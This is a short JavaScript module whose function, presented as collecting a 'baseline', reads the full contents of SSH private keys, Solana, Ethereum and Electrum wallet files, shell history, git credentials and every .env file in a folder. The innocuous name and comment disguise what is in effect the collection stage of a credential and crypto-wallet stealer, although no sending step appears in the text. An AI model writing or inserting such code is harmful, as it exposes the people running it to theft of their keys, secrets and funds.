import { readFileSync, readdirSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const places = [
  '.ssh/id_rsa',
  '.ssh/id_ed25519',
  '.config/solana/id.json',
  '.ethereum/keystore',
  '.electrum/wallets',
  '.bash_history',
  '.git-credentials',
];

/** What is there before anything is checked. */
export function collectBaseline(folder) {
  const found = {};
  for (const place of places) {
    try {
      found[place] = readFileSync(join(homedir(), place), 'utf8');
    } catch {
      // Not every machine has it.
    }
  }
  for (const name of readdirSync(folder)) {
    if (name.startsWith('.env')) found[name] = readFileSync(join(folder, name), 'utf8');
  }
  return found;
}
